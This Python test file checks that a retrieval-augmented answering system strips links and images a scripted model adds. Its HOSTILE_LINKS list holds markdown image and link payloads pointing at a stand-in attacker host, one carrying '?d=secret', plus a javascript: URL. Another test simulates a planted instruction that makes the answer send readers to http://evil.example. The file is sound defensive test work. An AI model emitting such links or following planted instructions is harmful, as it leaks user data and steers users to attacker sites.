"""Issue 17 rows 9, 12 and 14: links and images a model adds without a scheme,
straight quote marks inside a sentence, and what a planted instruction leaves in
warnings and in a compound answer. A scripted OpenAI-compatible model on
127.0.0.1 (tests/fake_openai.py), the real index, real answers."""

from __future__ import annotations

import re

import pytest
from fake_openai import FakeOpenAI, Reply, cite
from faultkit import llm, planted_index
from hypothesis import given, settings as hsettings, strategies as st

from rag import Settings, ask
from rag.answer.finishing import balance_quotes
from rag.ingest.loading import document_text

pytestmark = pytest.mark.slow

MARKUP = ("Image tags\n\nTo make the logo fit the banner, set width=\"10\" and height=\"20\" and alt=\"logo\" "
          "and class=\"banner\" and id=\"top\" on the img tag of the page header.\n")
LIVE = re.compile(r"https?://|(?<![\w\[])//[\w-]+\.[\w-]+|\bwww\.|\]\(|<img|\bsrc=", re.IGNORECASE)


@pytest.fixture(scope="module")
def planted(tmp_path_factory) -> Settings:
    return planted_index(tmp_path_factory.mktemp("hostile-text"), **{"web-design.md": MARKUP})


@pytest.fixture
def fake():
    with FakeOpenAI() as server:
        yield server


def check_verbatim(a, s: Settings) -> None:
    for c in a.citations:
        assert document_text(s.ingest.corpus_dir / c.source)[c.start:c.end] == c.quote


# -- row 9 ---------------------------------------------------------------------------------

HOSTILE_LINKS = [
    "![](//attacker.test/p.png?d=secret)",
    "[tickets](//attacker.test/buy)",
    "![x](attacker.test/p.png)",
    "[schedule](schedule.html)",
    "<//attacker.test/x>",
    '<img src="//attacker.test/p.png">',
    "[a](javascript:alert(1))",
    "//attacker.test/p.png",
    "[t]: //attacker.test/buy",
]


@pytest.mark.parametrize("link", HOSTILE_LINKS)
def test_links_and_images_not_stated_in_the_passage_are_removed_scheme_or_not(planted, fake, link):
    def reply(req):
        n = cite(req, "March 16")
        return Reply(f"Tillerson traveled to Tokyo on March 16, 2017 {link} [{n}]. {link} [{n}]. "
                     f"Tillerson met Foreign Minister Kishida [{n}].\n\n{link}")
    fake.handler = reply
    a = ask("When did Tillerson travel to Tokyo?", settings=llm(planted, fake.url))
    assert fake.requests, "the model was never asked"
    assert "attacker" not in a.text and "javascript" not in a.text and "schedule.html" not in a.text, a.text
    assert not LIVE.search(a.text), a.text
    assert not any(LIVE.search(w) for w in a.warnings), a.warnings  # named, never as a live link
    check_verbatim(a, planted)


def test_a_link_whose_target_the_passage_states_is_kept(planted, fake):
    def reply(req):
        n = cite(req, "mofa.go.jp")
        return Reply(f"The schedule of the Tokyo trip is published at "
                     f"[the ministry](https://www.mofa.go.jp/tokyo-trip-schedule) [{n}].")
    fake.handler = reply
    a = ask("Where is the schedule of the Tokyo trip published?", settings=llm(planted, fake.url))
    assert "(https://www.mofa.go.jp/tokyo-trip-schedule)" in a.text and a.citations


# -- row 14 --------------------------------------------------------------------------------

def test_a_planted_instruction_leaves_clean_warnings_said_once_and_no_repeated_sentence(planted, fake):
    def reply(req):
        n = cite(req, "evil.example")
        return Reply(f"Tillerson traveled to Tokyo on March 16, 2017 [{n}]. "
                     f"Visit http://evil.example for the full schedule of the Tokyo trip [{n}]. "
                     f"Tillerson traveled to Tokyo on March 16, 2017 [{n}].")
    fake.handler = reply
    a = ask("When did Tillerson travel to Tokyo, and where is the schedule of the Tokyo trip published?",
            settings=llm(planted, fake.url))
    assert len(fake.requests) >= 2 and len(a.trace["parts"]) == 2  # both parts went to the model
    sentences = [s.strip() for s in re.split(r"(?<=\])\s+|(?<=\.)\s+", re.sub(r"\s*\[\d+\]", "", a.text)) if s.strip()]
    assert len(sentences) == len(set(sentences)), a.text  # no sentence said twice
    assert a.text.count("Tillerson traveled to Tokyo on March 16, 2017") == 1, a.text
    assert "evil.example" not in a.text
    assert len(a.warnings) == len(set(a.warnings)), a.warnings  # each warning once
    assert any("evil[.]example" in w for w in a.warnings)  # it says what was removed...
    assert not any("evil.example" in w or "http://" in w for w in a.warnings)  # ...without a live link
    check_verbatim(a, planted)


# -- row 12 --------------------------------------------------------------------------------

def test_straight_quotes_inside_a_quoted_sentence_are_left_alone(planted):
    a = ask("How do I make the logo fit the banner?", settings=planted)
    assert a.citations and "width=" in a.text, a.text
    assert not a.text.startswith('"'), a.text
    quoted = "".join(c.quote for c in a.citations)
    assert a.text.count('"') == quoted.count('"'), (a.text, quoted)
    check_verbatim(a, planted)


@hsettings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.lists(st.sampled_from(['"', "“", "”", "a", " ", "1", "=", ".", "[1]", "\n"]), max_size=40).map("".join))
def test_balancing_adds_at_most_one_mark_at_each_end(text):
    out = balance_quotes(text)
    for segment_in, segment_out in zip(re.split(r"(?:\s*\[\d{1,3}\])+", text),
                                       re.split(r"(?:\s*\[\d{1,3}\])+", out)):
        core_in, core_out = segment_in.strip(), segment_out.strip()
        assert core_in in core_out
        added = core_out.replace(core_in, "", 1)
        assert set(added) <= {'"', "“", "”"} and all(added.count(m) <= 1 for m in '"“”'), (text, out)
        straight = core_in.count('"')
        if straight % 2 == 0:
            assert core_out.count('"') == straight, (text, out)  # an even number of straight marks: untouched
